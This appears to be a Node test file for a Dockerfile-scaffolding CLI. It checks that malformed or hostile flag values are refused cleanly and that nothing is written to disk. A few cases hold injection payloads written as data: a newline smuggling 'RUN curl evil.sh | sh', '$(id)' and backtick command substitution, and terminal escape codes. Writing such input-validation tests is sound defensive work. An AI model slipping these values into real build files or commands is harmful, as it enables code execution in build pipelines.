// Hostile or malformed values through flags: each is refused with exit 2, a message naming the
// flag with a valid example, and nothing on disk (not in cwd, not above it).
import assert from 'node:assert/strict';
import { mkdirSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { before, test } from 'node:test';
import { assertBuilt, binDir, cliEnv, runCli, show, tempDir } from '../helpers/cli.ts';

before(assertBuilt);

interface Case {
  what: string;
  args: string[];
  /** The flag (or positional) the message must name. */
  names: string;
}

const CASES: Case[] = [
  { what: 'newline in the name', args: ['--name', 'svc\nRUN curl evil.sh | sh'], names: '--name' },
  { what: 'quote in the name', args: ['--name', 'svc"x'], names: '--name' },
  { what: 'command substitution in the maintainer', args: ['--maintainer', 'Team $(id) <a@b.c>'], names: '--maintainer' },
  { what: 'backtick in the maintainer', args: ['--maintainer', 'Team `id` <a@b.c>'], names: '--maintainer' },
  { what: 'newline in the maintainer', args: ['--maintainer', 'Team\nLABEL evil=1'], names: '--maintainer' },
  { what: 'control character in the maintainer', args: ['--maintainer', 'Team\u001b[2J'], names: '--maintainer' },
  { what: 'NUL-free escape: DEL in the registry', args: ['--registry', 'registry.example.com\u007f'], names: '--registry' },
  { what: '".." escaping the current directory', args: ['../escaped'], names: '[directory]' },
  { what: '".." in the middle of the directory', args: ['a/../../escaped'], names: '[directory]' },
  { what: 'newline in the directory', args: ['svc\nx'], names: '[directory]' },
  { what: '$(id) in the directory', args: ['$(id)'], names: '[directory]' },
  { what: 'the latest tag on the runtime image', args: ['--runtime-image', 'gcr.io/distroless/python3-debian13:latest'], names: '--runtime-image' },
  { what: 'no tag on the builder image', args: ['--builder-image', 'python'], names: '--builder-image' },
  { what: 'the latest tag on the cert bundle', args: ['--cert-bundle', 'registry.example.com/base/ca-bundle:latest'], names: '--cert-bundle' },
  { what: 'a relative cert path', args: ['--cert-bundle', 'registry.example.com/base/ca-bundle:1', '--cert-path', 'certs'], names: '--cert-path' },
  { what: 'an http index URL', args: ['--index-url', 'http://nexus.example.com/pypi/simple'], names: '--index-url' },
  { what: 'credentials in the index URL', args: ['--index-url', 'https://user:secret@nexus.example.com/pypi/simple'], names: '--index-url' },
  { what: 'a token as user in the index URL', args: ['--index-url', 'https://token@nexus.example.com/pypi/simple'], names: '--index-url' },
  { what: 'an unknown gate', args: ['--gates', 'typecheck,fuzz'], names: '--gates' },
  { what: 'no gate at all', args: ['--gates', ''], names: '--gates' },
  { what: 'a registry with a space', args: ['--registry', 'registry example.com'], names: '--registry' },
  { what: 'an unknown --ci', args: ['--ci', 'jenkins'], names: '--ci' },
  { what: 'an unknown --manager', args: ['--manager', 'conda'], names: '--manager' },
  { what: 'an unsupported --python', args: ['--python', '2.7'], names: '--python' },
  { what: 'an unknown --language', args: ['--language', 'cobol'], names: '--language' },
  { what: 'an unknown flag', args: ['--frobnicate'], names: '--frobnicate' },
  { what: 'a flag without its value', args: ['--name'], names: '--name' },
  { what: 'a flag followed by another flag instead of its value', args: ['--registry', '--yes'], names: '--registry' },
  { what: 'a value on a switch', args: ['--dry-run=yes'], names: '--dry-run' },
  { what: 'two directories', args: ['one', 'two'], names: '[directory]' },
];

for (const { what, args, names } of CASES) {
  test(`refused: ${what}`, async () => {
    // cwd is a child of a private root, so an escape to ".." would show up in the root.
    const root = tempDir();
    const cwd = join(root, 'cwd');
    mkdirSync(cwd);
    const result = await runCli([...args, '--no-git', '--no-lock'], { cwd, env: cliEnv(binDir()) });
    assert.equal(result.exitCode, 2, show(result));
    assert.ok(result.stderr.includes(names), `the message names ${names}\n${result.stderr}`);
    assert.match(result.stderr, /Example:/, `the message shows a valid example\n${result.stderr}`);
    assert.doesNotMatch(result.stderr, /^\s+at /m, 'no stack trace');
    assert.equal(result.stdout, '', 'nothing printed as if it went ahead');
    assert.deepEqual(readdirSync(cwd), [], 'nothing written in cwd');
    assert.deepEqual(readdirSync(root), ['cwd'], 'nothing written above cwd');
  });
}

test('hostile values never reach the terminal raw: control characters are shown escaped', async () => {
  const cwd = tempDir();
  const result = await runCli(['--maintainer', 'Team\u001b[2J\u0007'], { cwd, env: cliEnv(binDir()) });
  assert.equal(result.exitCode, 2, show(result));
  assert.doesNotMatch(result.stderr, /[\u001b\u0007]/, 'escape sequences are not echoed');
});

test('very long adversarial values through every flag are refused quickly (no regex blow-up in the CLI)', async () => {
  const cwd = tempDir();
  const flags: [string, string][] = [
    ['--name', 'billing-api'], ['--registry', 'registry.example.com:5000/base'], ['--builder-image', 'registry.example.com/base/python:3.13-slim'],
    ['--cert-bundle', 'registry.example.com/base/ca-bundle:1'], ['--cert-path', '/certs/'], ['--index-url', 'https://nexus.example.com/pypi/simple'],
    ['--maintainer', 'Team Foo <foo@example.com>'], ['--gates', 'typecheck,test'], ['[directory]', 'services/billing'],
  ];
  const tails = ['a'.repeat(10_000), 'a-'.repeat(5_000), 'a.'.repeat(5_000), 'a/'.repeat(5_000), 'a__'.repeat(3_000)].map((tail) => `${tail}!`);
  for (const [flag, base] of flags) {
    for (const tail of tails) {
      const value = base + tail;
      const args = flag === '[directory]' ? [value] : ['svc', flag, value];
      if (flag === '--cert-path') args.push('--cert-bundle', 'registry.example.com/base/ca-bundle:1');
      const start = process.hrtime.bigint();
      const result = await runCli(['--dry-run', ...args], { cwd, env: cliEnv(binDir()), timeoutMs: 10_000 });
      const elapsed = Number(process.hrtime.bigint() - start) / 1e6;
      assert.equal(result.exitCode, 2, `${flag} ${JSON.stringify(tail.slice(0, 6))}…\n${show(result)}`);
      assert.ok(elapsed < 3_000, `${flag} with ${value.length} characters took ${elapsed.toFixed(0)} ms`);
    }
  }
  assert.deepEqual(readdirSync(cwd), []);
});
